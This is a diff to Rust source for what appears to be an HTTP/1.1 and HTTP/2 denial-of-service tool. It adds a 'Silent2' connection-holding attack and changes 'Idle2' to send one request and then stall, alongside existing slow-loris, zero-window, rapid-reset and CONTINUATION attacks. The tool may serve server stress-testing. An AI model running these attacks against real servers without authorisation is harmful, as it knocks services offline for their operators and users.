@@ -42,6 +42,8 @@ pub enum Attack {
     /// HTTP/2: one byte of a head each second.
     SlowHead2,
     /// HTTP/2: a connection without a request.
+    Silent2,
+    /// HTTP/2: one request, and then nothing.
     Idle2,
     /// HTTP/2: answers for which there is never room.
     NoWindow,
@@ -56,9 +58,10 @@ pub enum Attack {
 impl Attack {
     /// Plain HTTP/1.1 needs no TLS.
     pub const PLAIN: [Self; 3] = [Self::SlowHead, Self::SlowBody, Self::SlowRead];
-    pub const TLS: [Self; 6] = [
+    pub const TLS: [Self; 7] = [
         Self::HalfHandshake,
         Self::SlowHead2,
+        Self::Silent2,
         Self::NoWindow,
         Self::RapidReset,
         Self::Continuation,
@@ -93,7 +96,8 @@ impl Attack {
         let streams = (1_u32..).step_by(2).take(1_000_000);
         match self {
             Self::SlowHead2 => drip(tls, &[&start[..], &[0, 1, 0, HEADERS, 0, 0, 0, 0, 1]].concat()).await,
-            Self::Idle2 => hold(tls, &start).await,
+            Self::Silent2 => hold(tls, &start).await,
+            Self::Idle2 => hold(tls, &[start, get(1, END_STREAM | END_HEADERS)].concat()).await,
             Self::NoWindow => {
                 let no_window = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
                 let all: Vec<_> = streams.take(10).flat_map(|s| get(s, END_STREAM | END_HEADERS)).collect();
